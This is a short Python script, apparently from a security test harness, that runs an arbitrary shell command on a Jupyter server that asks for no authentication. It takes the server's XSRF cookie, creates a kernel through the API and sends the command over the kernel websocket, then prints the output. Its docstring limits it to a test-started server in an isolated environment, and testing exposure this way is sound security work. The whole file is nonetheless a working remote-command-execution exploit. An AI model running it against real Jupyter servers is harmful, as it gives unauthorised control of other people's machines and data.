"""`python attack.py URL COMMAND`: runs a shell command by a Jupyter server that asks for nothing; prints its output.

For a server that the test itself started, in a room without a way out. Exits with a sentence where the server refuses.
"""

import asyncio
import json
import sys
import uuid
from http.cookiejar import CookieJar
from urllib.error import HTTPError
from urllib.request import HTTPCookieProcessor, Request, build_opener

from tornado.websocket import websocket_connect


def main(url, command):
    cookies = CookieJar()
    browser = build_opener(HTTPCookieProcessor(cookies))
    browser.open(f"{url}/tree", timeout=120).close()  # as any page in a browser: for the cookie
    words = {cookie.name: cookie.value for cookie in cookies}
    headers = {"X-XSRFToken": words.get("_xsrf", ""), "Content-Type": "application/json"}
    try:
        with browser.open(Request(f"{url}/api/kernels", b"{}", headers), timeout=120) as answer:
            kernel = json.load(answer)["id"]
    except HTTPError as error:
        with error:
            sys.exit(f"refused: {error.code}")
    print(asyncio.run(asyncio.wait_for(_run(url.replace("http", "ws", 1), kernel, command), 120)), end="")


async def _run(url, kernel, command):
    connection = await websocket_connect(f"{url}/api/kernels/{kernel}/channels")
    content = {"code": f"!{command}", "silent": False, "store_history": False, "stop_on_error": True}
    header = {"msg_id": uuid.uuid4().hex, "msg_type": "execute_request", "session": "x", "username": "x", "date": ""}
    message = {"header": header, "parent_header": {}, "metadata": {}, "content": content, "channel": "shell"}
    await connection.write_message(json.dumps(message | {"buffers": []}))
    while text := await connection.read_message():
        message = json.loads(text)
        if message["msg_type"] == "stream":
            return message["content"]["text"]


if __name__ == "__main__":
    main(*sys.argv[1:])
